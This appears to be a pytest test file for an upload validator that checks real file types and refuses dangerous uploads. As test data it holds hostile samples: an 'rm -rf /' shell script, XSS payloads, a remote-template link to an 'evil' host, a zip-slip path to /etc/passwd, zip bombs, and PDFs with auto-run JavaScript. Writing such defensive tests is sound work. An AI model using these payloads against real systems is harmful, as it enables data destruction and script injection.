"""What an uploaded file really is."""

from __future__ import annotations

import time

import pytest

import samples_of_papers as samples
from creditpolicy.problems import Refusal
from xinheng.papers.contents import TYPES, clean_name, examine

GOOD = {
    "licence.pdf": ("pdf", samples.PDF),
    "照片.PNG": ("png", samples.png()),
    "a.jpg": ("jpeg", samples.jpeg()),
    "b.jpeg": ("jpeg", samples.jpeg()),
    "合同.docx": ("docx", samples.word_file()),
    "表.xlsx": ("xlsx", samples.workbook()),
    "发票.ofd": ("ofd", samples.zipped({"OFD.xml": b"<ofd/>", "Doc_0/Document.xml": b"<d/>"})),
    "记录.txt": ("txt", "拜访记录: 3 < 5, 同意。\n".encode()),
    "gbk.csv": ("txt", "名称,金额\n甬江,1".encode("gb18030")),
}
REL = (
    b'<R><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></R>'
)
BAD = {
    "empty.pdf": (b"", "空"),
    "a.exe": (b"MZ\x90\x00" + b"\0" * 60, "可执行"),
    "a.pdf": (b"MZ\x90\x00" + b"\0" * 60, "可执行"),
    "run.txt": (b"#!/bin/sh\nrm -rf /\n", "可执行"),
    "elf.png": (b"\x7fELF\x02\x01\x01", "可执行"),
    "page.txt": (b"<html><script>alert(1)</script></html>", "网页"),
    "a.svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "网页"),
    "b.txt": (b"hello <ScRiPt src=x></script>", "网页"),
    "c.txt": (b"x <img src=x onerror=alert(1)>", "网页"),
    "utf16.txt": ("<html>".encode("utf-16"), "认不出"),
    "bin.txt": (b"\x00\x01\x02\x03", "认不出"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "旧格式"),
    "old.xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "旧格式"),
    "macro.docm": (samples.office("application/vnd.ms-word.document.macroEnabled.main+xml"), "宏"),
    "macro.docx": (samples.office(**{"word__vbaProject.bin": b"x"}), "宏"),
    "macrosheet.xlsx": (samples.office(**{"xl__macrosheets__sheet1.xml": b"x"}), "宏"),
    "embedded.docx": (samples.office(**{"word__embeddings__oleObject1.bin": b"x"}), "嵌着"),
    "activex.docx": (samples.office(**{"word__activeX__activeX1.xml": b"x"}), "嵌着"),
    "remote.docx": (samples.office(**{"word___rels__settings.xml.rels": REL}), "外部地址"),
    "dtd.docx": (samples.office(**{"word__x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "DTD"),
    "bomb.docx": (samples.office(**{"word__media.xml": b"0" * 60_000_000}), "炸弹"),
    "many.docx": (samples.zipped({f"p{n}": b"" for n in range(5_001)}), "太多"),
    "slip.docx": (samples.zipped({"../../etc/passwd": b"x"}), "路径"),
    "plain.zip": (samples.zipped({"a.txt": b"x"}), "压缩包"),
    "locked.docx": (samples.encrypted_zip(), "密码"),
    "cut.docx": (samples.word_file()[:-200], "损坏"),
    "cut.pdf": (samples.PDF[:-8], "不完整"),
    "js.pdf": (samples.PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "脚本"),
    "hidden.pdf": (samples.PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript>>"), "脚本"),
    "launch.pdf": (samples.PDF.replace(b"/Catalog", b"/Catalog/AA<</S/Launch>>"), "Launch"),
    "attached.pdf": (samples.PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 2 0 R>>"), "附件"),
    "huge.png": (samples.png(60_000, 60_000), "像素"),
    "cut.png": (samples.png()[:-12], "损坏"),
    "wrong.pdf": (samples.png(), "PNG"),
    "wrong.docx": (samples.workbook(), "Excel"),
    "none": (samples.PDF, "PDF"),
    "double.pdf.exe": (samples.PDF, "exe"),
    "big.txt": (b"a" * (20 * 2**20 + 1), "超过上限"),
}


@pytest.mark.parametrize("name", GOOD)
def test_an_honest_file_is_known_by_its_content(name: str):
    code, content = GOOD[name]
    assert examine(name, content) is TYPES[code]


@pytest.mark.parametrize("name", BAD)
def test_a_file_that_could_hurt_is_refused_within_two_seconds_with_the_reason(name: str):
    content, reason = BAD[name]
    begun = time.process_time()
    with pytest.raises(Refusal, match=reason):
        examine(name, content)
    assert time.process_time() - begun < 2


def test_a_zip_that_lies_about_its_sizes_is_not_believed():
    """The directory says ten bytes, the entry unpacks to three million."""
    content = samples.office(**{"word__a.xml": b"0" * 3_000_000})
    lying = content.replace((3_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert lying != content
    with pytest.raises(Refusal):
        examine("a.docx", lying)


@pytest.mark.parametrize(
    ("given", "clean"),
    [
        ("营业执照.pdf", "营业执照.pdf"), ("../../etc/passwd", "passwd"), ("C:\\temp\\a.pdf", "a.pdf"),
        ("a\u202efdp.exe", "afdp.exe"), ("a\x00b\n.pdf", "ab.pdf"), ('a<b>:"c".pdf', "a_b___c_.pdf"), ("", "未命名"),
        ("...", "未命名"), ("长" * 300 + ".pdf", "长" * 120 + ".pdf"),
    ],
)  # fmt: skip
def test_a_file_name_keeps_nothing_that_could_mislead(given: str, clean: str):
    assert clean_name(given) == clean
